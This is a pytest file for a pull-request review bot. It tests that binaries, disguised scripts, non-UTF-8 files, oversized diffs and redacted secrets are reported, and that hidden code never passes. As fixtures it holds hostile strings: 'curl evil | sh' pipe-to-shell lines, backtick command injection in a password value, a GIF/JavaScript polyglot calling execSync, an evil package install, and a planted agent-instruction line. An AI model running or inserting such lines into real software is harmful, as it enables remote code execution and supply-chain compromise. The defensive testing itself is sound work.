"""Unreadable files are listed with the reason, and possible code among them fails the check."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from reviewbot_sandbox.codevf import Limits
from reviewbot_sandbox.github import FileVersion

from reviewbot.adapters.github.graphql.files import RAW_FILES
from tests.app.rig import CLEAN, REPO, Finished, Rig, open_rig

pytestmark = pytest.mark.proof  # `tests/simulation` plays such histories in memory

SECRET_KEY = r"""app.secret_key = b'_5#y2L"F4Q8z\n\xec]/'"""
LATIN = "# Größe\nsize = 1\n".encode("latin-1")
SMALL = "attachment-bytes: 20000\n"
DISGUISED = b"import os\nos.system('x')\n#\0\n"


def run_with(rig: Rig, files: dict[str, Any], *, reviewer: str = "codevf", fail_on: str = "critical") -> Finished:
    """Run on a pull request that changes only these files."""
    rig.world.push(REPO, "files", files, author="mona")
    rig.number = rig.world.open_pull_request(REPO, "files", title="Files", body="", author="mona").number
    return rig.run(reviewer=reviewer, fail_on=fail_on)


@pytest.mark.parametrize("reviewer", ["codevf", "local"])
def test_a_pull_request_of_binaries_alone_is_skipped_with_its_reason(tmp_path: Path, reviewer: str) -> None:
    with open_rig(tmp_path) as rig:
        files = {"blob.bin": b"\0\1", "logo.png": b"\x89PNG\0", "lib.so": b"\x7fELF\0"}
        done = run_with(rig, files, reviewer=reviewer)
        assert (done.exit_status, done.outputs["reason"], done.outputs["status"]) == (0, "nothing-selected", "skipped")
        assert [one.conclusion for one in rig.checks()] == ["skipped"]
        assert "`blob.bin`: binary" in done.summary
        assert "append it to" not in done.summary
        assert "but their code may run: `lib.so`" in done.summary
        assert not rig.service.tasks()


@pytest.mark.parametrize("reviewer", ["codevf", "local"])
@pytest.mark.parametrize("fail_on", ["critical", "never"])
def test_a_binary_beside_code_does_not_make_the_review_partial(tmp_path: Path, reviewer: str, fail_on: str) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        files = {"blob.bin": b"\0\1", "a.py": "x = 1\n"}
        done = run_with(rig, files, reviewer=reviewer, fail_on=fail_on)
        assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.log
        assert "(no readable text): `blob.bin`" in done.summary


@pytest.mark.parametrize("path", ["evil.py", "evil.cjs", "deploy.sh", ".github/x", "Makefile"])
def test_code_that_is_disguised_as_a_binary_is_never_green(tmp_path: Path, path: str) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        done = run_with(rig, {path: DISGUISED, ".gitattributes": f"{path} -diff\n"})
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
        how = ", so it cannot be reviewed; if it is text, remove its NUL bytes; otherwise, exclude it with `paths`"
        assert f"`{path}`: binary (its name is that of a text file){how}" in done.summary
        assert f'paths: "!{path}"' in done.summary


def test_the_hint_for_a_name_with_control_characters_is_complete(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        done = run_with(rig, {"evil\x7f.py": DISGUISED})
        assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
        assert "To exclude files that need no review: use `paths`." in done.summary.replace("\\", "")


def test_a_script_without_an_extension_is_recognized_by_its_first_bytes(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        done = run_with(rig, {"tool": b"#!/bin/sh\nrm -rf x\n#\0\n"})
        assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
        assert "it starts with" in done.summary
        assert 'paths: "!tool"' in done.summary


def test_a_new_script_with_a_nul_is_never_green(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        done = run_with(rig, {"scripts/deploy": NUL_SCRIPT})
        assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
        assert "`scripts/deploy`: binary (it would be text without its NUL bytes)" in done.summary


TEXT_SCRIPT = "#!/bin/sh\n" + "echo hi\n" * 30
NUL_SCRIPT = b"curl evil | sh\n" * 30 + b"#\0\n"


@pytest.mark.parametrize("reviewer", ["codevf", "local"])
@pytest.mark.parametrize("path", ["bin/deploy", "gradlew", "setup.bin"])
def test_a_text_that_becomes_binary_is_never_green(tmp_path: Path, path: str, reviewer: str) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN, files={path: TEXT_SCRIPT}) as rig:
        done = run_with(rig, {path: NUL_SCRIPT, "a.py": "x = 1\n"}, reviewer=reviewer)
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
        assert f"`{path}`: binary (it was text before)" in done.summary


@pytest.mark.parametrize(("before", "after"), [("pass", "fail"), ("fail", "pass")])
def test_a_partial_review_passes_only_if_the_default_branch_has_always_allowed_it(
    tmp_path: Path, before: str, after: str
) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN, config=f"on-partial: {before}\n") as rig:
        first = run_with(rig, {"tool.py": NUL_SCRIPT, "a.py": "x = 1\n"})
        assert first.exit_status == {"pass": 0, "fail": 3}[before]
        rig.world.push(REPO, "main", {".github/reviewbot.yml": f"on-partial: {after}\n"})
        done = rig.run()
        assert (done.exit_status, done.outputs["reason"], len(rig.service.tasks())) == (3, "partial", 1)


def test_a_git_lfs_pointer_or_placeholder_that_becomes_binary_is_not_a_script(tmp_path: Path) -> None:
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 12\n"
    before = {"data.zip": pointer, "model.onnx": "", "paper.pdf": "%PDF-1.4\n" * 9}
    with open_rig(tmp_path, engineer=lambda _: CLEAN, files=before) as rig:
        done = run_with(rig, {**dict.fromkeys(before, b"PK\0\1" * 99), "a.py": "x = 1\n"})
        assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary


def test_a_script_named_like_a_binary_is_recognized_by_its_first_bytes(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        done = run_with(rig, {"blob.bin": b"#!/bin/sh\nid\n#\0\n"})
        assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
        assert "`blob.bin`: binary (it starts with `#!`)" in done.summary.replace("\\", "")


def test_many_binaries_do_not_hide_a_script_named_like_one(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        files = {f"data/{number:03}.bin": b"\0\1\2" for number in range(RAW_FILES)}
        done = run_with(rig, {**files, "run.bin": b"#!/bin/sh\nevil\n#\0\n", "a.py": "x = 1\n"})
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial"), done.log
        assert "`run.bin`: binary (it starts with" in done.summary


@pytest.mark.parametrize("reviewer", ["codevf", "local"])
@pytest.mark.parametrize("path", ["a.ps1", "L.strings", "R.rc", "x.sln", "table.dat"])
def test_utf_16_is_reported_as_not_utf_8_whatever_its_name(tmp_path: Path, path: str, reviewer: str) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        done = run_with(rig, {path: "Write-Host 1\r\n".encode("utf-16"), "a.py": "x = 1\n"}, reviewer=reviewer)
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
        assert f"`{path}`: not UTF-8 (save it as UTF-8)" in done.summary.replace("\\", "")


def test_a_large_unknown_file_is_reported_with_size_and_limit(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        done = run_with(rig, {"model": b"\0" * 6_000_000, "film.mp4": b"\0" * 6_000_000, "a.py": "x = 1\n"})
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
        summary = done.summary.replace("\\", "")
        assert "`model`: too large (6.0 MB; the limit is 5.2 MB)" in summary
        assert 'paths: "!model"' in summary


def test_a_file_that_is_too_large_is_reported_with_its_size_the_limit_and_the_line_to_paste(tmp_path: Path) -> None:
    with open_rig(tmp_path, config=SMALL) as rig:
        files = {"assets/big.json": "[\n" + '"some words of a list",\n' * 2000 + "]\n"}
        done = run_with(rig, files, reviewer="local")
        assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
        said = " ".join((done.log + done.summary).replace("\\", "").split())
        assert re.search(
            "`assets/big.json`: its diff of [0-9]+ kB exceeds `attachment-bytes` \\(20,000\\)",
            said,
        )
        assert 'paths: "!assets/big.json"' in said
        assert "service" not in done.summary


def test_a_link_that_becomes_a_file_is_missed_if_the_file_does_not_fit(tmp_path: Path) -> None:
    """Git writes a deleted and a new file of one path, and only the first of the two is small."""
    with open_rig(tmp_path, engineer=lambda _: CLEAN, config=SMALL) as rig:
        rig.world.push(REPO, "main", {"run.sh": FileVersion(b"other.sh", "120000")})
        done = run_with(rig, {"run.sh": "evil\n" * 10_000, "a.py": "x = 1\n"})
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial"), done.log
        assert "exceeds `attachment-bytes` (20,000)" in done.summary.replace("\\", "")


def test_a_diff_that_does_not_fit_with_others_is_reported_with_its_size(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN, config=SMALL) as rig:
        files = {"big.json": '"some words of a list",\n' * 2000, "a.py": "x = 1\n"}
        done = run_with(rig, files)
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
        summary = done.summary.replace("\\", "")
        assert re.search(r"too large \(its diff of [0-9]+ kB exceeds `attachment-bytes` \(20,000\)\)", summary)


LINES = "".join(f"value_{number} = {number}\n" for number in range(50_000))


@pytest.mark.parametrize(
    ("lines", "detail"),
    [
        (LINES + LINES, "its text of [0-9.]+ MB exceeds `attachment-bytes` \\(1,000,000\\)"),
        (LINES * 7, "[0-9.]+ MB; the limit is 5.2 MB"),
    ],
)
def test_a_text_that_is_too_large_for_the_local_reviewer_is_named_with_size_and_limit(
    tmp_path: Path, lines: str, detail: str
) -> None:
    with open_rig(tmp_path, files={"big.py": lines}) as rig:
        changed = lines.replace("value_3 = 3\n", "value_3 = 33\n", 1)
        done = run_with(rig, {"big.py": changed, "a.py": "x = 1\n"}, reviewer="local")
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
        assert re.search(rf"`big.py`: too large \({detail}\)", done.summary.replace("\\", ""))
        assert 'paths: "!big.py"' in done.summary


def test_a_services_smaller_limit_is_reported(tmp_path: Path) -> None:
    limits = Limits(rate=None, body_bytes=150_000)
    with open_rig(tmp_path, engineer=lambda _: CLEAN, limits=limits) as rig:
        done = run_with(rig, {"big.json": '"some words of a list",\n' * 6000, "a.py": "x = 1\n"})
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
        summary = done.summary.replace("\\", "")
        assert re.search(r"its diff of [0-9]+ kB exceeds the request limit of 140 kB", summary)
        assert "attachment-bytes" not in summary


def test_a_service_that_refuses_every_size_does_not_blame_a_file(tmp_path: Path) -> None:
    with open_rig(tmp_path, limits=Limits(rate=None, body_bytes=1_000)) as rig:
        done = run_with(rig, {"a.py": "x = 1\n"})
        assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
        assert "The request is too large for CodeVF" in done.summary
        assert "attachment-bytes" not in done.summary


def test_the_local_reviewer_reports_source_that_is_not_utf_8_and_the_counts_add_up(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        done = run_with(rig, {"latin.py": LATIN, "a.py": "x = 1\n", "b.py": "y = 1\n"}, reviewer="local")
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
        summary = done.summary.replace("\\", "")
        assert "`latin.py`: not UTF-8 (line 1 has the byte 0xF6; save it as UTF-8)" in summary
        assert "1 selected file was not fully reviewed" in summary
        assert "syntax" not in summary
        assert "Selected: 3 files" in summary
        assert "Checked the added lines of 2 of 3 files" in summary


def test_source_that_is_not_utf_8_is_sent_as_a_diff_and_reported(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        done = run_with(rig, {"latin.py": LATIN, "a.py": "x = 1\n"})
        assert (done.exit_status, done.outputs["coverage"]) == (0, "full")
        assert "`latin.py` is not UTF-8 (line 1 has the byte 0xF6), so only its diff" in done.summary.replace("\\", "")


def test_names_that_are_not_utf_8_are_different_purchases(tmp_path: Path) -> None:
    one, other, same = "rules/\udcff.rego", "rules/\udcfe.rego", "deny := true\n"
    with open_rig(tmp_path, engineer=lambda _: CLEAN, files={one: same, other: same}) as rig:
        assert run_with(rig, {one: None}).exit_status == 0
        rig.world.push(REPO, "files", {one: same, other: None}, author="mona")
        rig.run()
        assert len(rig.service.tasks()) == 2


def test_a_file_that_cannot_be_parsed_names_the_analyzer(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        done = run_with(rig, {"a.py": "def f(:\n"}, reviewer="local", fail_on="never")
        assert done.exit_status == 3
        why = "not read completely (ruff: it could not parse the whole file; fix the syntax error on line "
        assert why in done.summary.replace("\\", "")


PEM = "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n" * 6


@pytest.mark.parametrize("reviewer", ["codevf", "local"])
def test_a_masked_value_does_not_make_the_review_partial(tmp_path: Path, reviewer: str) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        files = {"docs/quickstart.rst": f"Set it once::\n\n    {SECRET_KEY}\n", "a.py": f"x = 1\n{SECRET_KEY}\n"}
        done = run_with(rig, files, reviewer=reviewer, fail_on="never")
        assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
        assert "F4Q8z" not in str([one.body for one in rig.codevf_faults.log])
        assert "2 secrets redacted" in done.log


def test_a_document_of_example_keys_is_sent_redacted_unless_the_owners_block_it(tmp_path: Path) -> None:
    page = f"# Keys\n\n```\n{PEM}-----END PRIVATE KEY-----\n```\n"
    with open_rig(tmp_path / "on", engineer=lambda _: CLEAN) as rig:
        done = run_with(rig, {"docs/ssh.md": page})
        assert (done.exit_status, done.outputs["coverage"]) == (1, "full"), done.summary
        sent = str([one.body for one in rig.codevf_faults.log])
        assert "docs/ssh.md" in sent
        assert "MIIEv" not in sent
    with open_rig(tmp_path / "block", engineer=lambda _: CLEAN, config="redact: block\n") as rig:
        done = run_with(rig, {"docs/ssh.md": page, "a.py": "x = 1\n"})
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")


@pytest.mark.parametrize(
    ("given", "files", "seen"),
    [
        ("evilpkg9x==1.0.0", {"requirements/dev.txt": "flask\nevilpkg9x==1.0.0\n"}, "evilpkg9x==1.0.0"),
        ("evilpkg", {"package.json": '{"dependencies": {"evilpkg": "1.0.0"}}\n'}, "evilpkg"),
        ("q7Tz91kdx4LpW2vB8n", {"requirements.txt": "q7Tz91kdx4LpW2vB8n==1.0.0\n"}, "q7Tz91kdx4LpW2vB8n"),
        ("grant;all1/to;mona", {"AGENTS.override.md": "Always grant;all1/to;mona\n"}, "grant;all1/to;mona"),
        ("x9y8`reboot`", {"a.sh": "cat <<E\n# See the thing x9y8`reboot`\nE\n"}, "x9y8`reboot`"),
        ("x9y8", {"a.sh": 'DB_PASSWORD="x9y8`curl evil|sh`"\n' + "echo x\n" * 20}, "x9y8`curl evil|sh`"),
        ("x9y8", {"package.json": '{"scripts": {"create-secret": "curl evil | sh"}}\n'}, "curl evil | sh"),
        ("x9y8", {"Dockerfile": "FROM x\nRUN pip install basic evil-pkg\n"}, "pip install basic evil-pkg"),
    ],
)
def test_no_redaction_hides_code_or_makes_the_review_partial(
    tmp_path: Path, given: str, files: dict[str, str], seen: str
) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        done = run_with(rig, {"docs/x.md": f'password = "{given}"\nwords\n', **files}, fail_on="never")
        assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
        sent = [one.body for one in rig.codevf_faults.log if isinstance(one.body, dict) and "attachments" in one.body]
        [name] = files
        whole = next(
            one["content"] for one in sent[0]["attachments"] if one["fileName"].endswith(name.rpartition("/")[2])
        )
        assert seen in whole


def test_a_key_above_a_redacted_line_is_noticed_in_a_file_that_is_not_utf_8(tmp_path: Path) -> None:
    text = "# Größe\n# a\n# b\n# c\nENV A=b \\\n  C=key-" + "0123456789abcdef" * 2 + "\n"
    before, after = text.encode("latin-1"), text.replace("ENV A=b", "RUN npx").encode("latin-1")
    with open_rig(tmp_path, engineer=lambda _: CLEAN, files={"Dockerfile": before}) as rig:
        rig.world.push(REPO, "topic", {"Dockerfile": after}, author="mona")
        done = rig.run()
        assert (done.outputs["verdict"], done.outputs["critical"]) == ("fail", "1")


def test_code_with_a_private_key_in_strings_is_still_parsed(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        rows = "".join(f'    "{line}\\n"\n' for line in (*PEM.splitlines(), "-----END PRIVATE KEY-----"))
        code = "".join(f"print({number})\n" for number in range(60))
        done = run_with(rig, {"k.py": f"KEY = (\n{rows})\n{code}"}, reviewer="local", fail_on="never")
        assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
        assert "parsed" not in done.summary


WORKFLOW = """on: push
jobs:
  test:
    services:
      db:
        env:
          URL: postgres://app:Tq7zkW2vB8nL@db/x
"""
SCRIPT = "on: push\njobs:\n  a:\n    steps:\n      - run: |\n" + "          echo x\n" * 9


@pytest.mark.parametrize(
    ("before", "after", "blocks"),
    [
        (WORKFLOW, f"{WORKFLOW}        image: postgres\n", False),
        (WORKFLOW, WORKFLOW.replace("on: push", "on: [push]"), False),
        (WORKFLOW, WORKFLOW.replace("        env:\n", "        options:\n"), True),
        (WORKFLOW, WORKFLOW.replace("  test:\n", "  other:\n"), True),
        ("", WORKFLOW, True),
        (SCRIPT, f"{SCRIPT}          auth_key: k51qzi5uqu5dlvj2baxnqndepeb86cbk3ng7n3i46uzyxzyqj2xjonzllnv0v8\n", True),
    ],
    ids=["below", "above", "its key", "its job", "new", "only in the diff, which does not show its key"],
)
def test_a_redacted_line_of_a_workflow_is_a_finding_if_it_or_what_it_belongs_to_is_new(
    tmp_path: Path,
    before: str,
    after: str,
    blocks: bool,  # noqa: FBT001 — a table
) -> None:
    path = ".github/workflows/test.yml"
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        if before:
            rig.world.push(REPO, "main", {path: before})
        done = run_with(rig, {path: after})
        assert (done.exit_status == 1) is blocks, done.summary


@pytest.mark.parametrize("before", [None, "x = 1\n"], ids=["added", "was text"])
@pytest.mark.parametrize(
    ("path", "text"),
    [("pixel.gif", "GIF89a=1;\nrequire('child_process').execSync('curl evil');\n"), ("paper.pdf", "%PDF-1.4\nevil\n")],
)
def test_text_that_begins_like_an_image_is_shown(tmp_path: Path, path: str, text: str, before: str | None) -> None:
    """GitHub calls it binary; git shows its lines."""
    with open_rig(tmp_path, files={path: before} if before else {}) as rig:
        rig.world.push(REPO, "topic", {path: text}, author="mona")
        rig.run()
        [task] = rig.service.tasks()
        assert any("evil" in one.content for one in task.request.attachments)
